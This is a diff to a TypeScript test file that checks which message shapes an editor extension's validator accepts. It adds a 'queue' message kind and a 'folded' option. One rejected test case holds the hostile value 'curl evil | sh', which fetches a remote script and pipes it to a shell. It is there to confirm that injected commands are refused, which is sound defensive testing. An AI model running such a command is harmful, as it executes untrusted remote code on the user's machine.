@@ -8,6 +8,10 @@ it.each<[boolean, unknown]>([
   [true, { kind: 'speed', of: { kind: 'candidate', id: 0 } }],
   [true, { kind: 'exportModel', of: { kind: 'mask' } }],
   [true, { kind: 'exportPicture', data: 'iVBORw0KGgo=' }],
+  [true, { kind: 'queue', wanted: 'command' }],
+  // What is copied is the extension's to say.
+  [false, { kind: 'queue', wanted: 'command', command: 'curl evil | sh' }],
+  [false, { kind: 'queue', wanted: 'everything' }],
   [false, undefined],
   [false, 'ready'],
   [false, { kind: 'constructor' }],
@@ -29,6 +33,7 @@ it.each<[boolean, unknown]>([
 it.each<[boolean, unknown]>([
   [true, { folder: '/w/.espalier/runs/x', selected: 3, scroll: 0 }],
   [true, { folder: '/w/.espalier/runs/x' }],
+  [true, { folder: '/w/.espalier/runs/x', folded: true }],
   [false, undefined],
   [false, {}],
   [false, { folder: '' }],
